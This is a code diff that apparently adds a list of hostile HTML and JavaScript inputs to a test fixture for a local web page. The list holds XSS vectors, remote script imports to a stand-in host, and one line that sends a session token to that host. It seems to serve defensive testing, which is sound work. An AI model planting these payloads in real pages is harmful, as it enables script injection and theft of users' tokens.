@@ -37,3 +37,23 @@ TERMINAL = (
     "\u200b", "\ufeff", "\u2028", "\u2029", "\r", "\r\x1b[A", "\x1b[?1049h", "\x1b[5i", "\x1b#8", "\x0e", "\x0f",
     "\x1b[1;1H", "\x1bM",
 )  # fmt: skip
+
+PAGE = (
+    "<img src='/api/v1/quit' onerror={}>", "<style>*{{background:url(http://a.example)}}</style>",
+    "<script type=module>import 'http://a.example/x.js'</script>",
+    "<script>fetch('//a.example/'+sessionStorage.token)</script>",
+    '<script type=importmap>{{"imports":{{"preact":"http://a.example"}}}}</script>',
+    "<iframe srcdoc='<script>{}</script>'>", "<link rel=prefetch href=http://a.example>",
+    "<link rel=preconnect href=http://a.example>", "<img srcset=http://a.example>",
+    "<a href=http://a.example ping=http://a.example>x</a>", "<audio src=http://a.example autoplay>",
+    "<portal src=http://a.example>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "<dialog open onclose={}>x</dialog>", "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
+    "<svg><animate onbegin={} attributeName=x>",
+    "<form id=x><button form=x formaction=javascript:{}>x</button></form>",
+    '<a href="data:text/html,<script>{}</script>">x</a>', "<object data=javascript:{}></object>",
+    "![x](http://a.example/x.png) [x](javascript:{})", "`<img src=x onerror={}>`",
+    "${{alert(1)}} {{{{constructor.constructor('acted++')()}}}}", "<slot name=x onslotchange={}></slot>",
+    "\u202e<script>{}</script>",
+)  # fmt: skip
+"""For the page of `serve`: its parts, its own addresses, and what it must not fetch."""
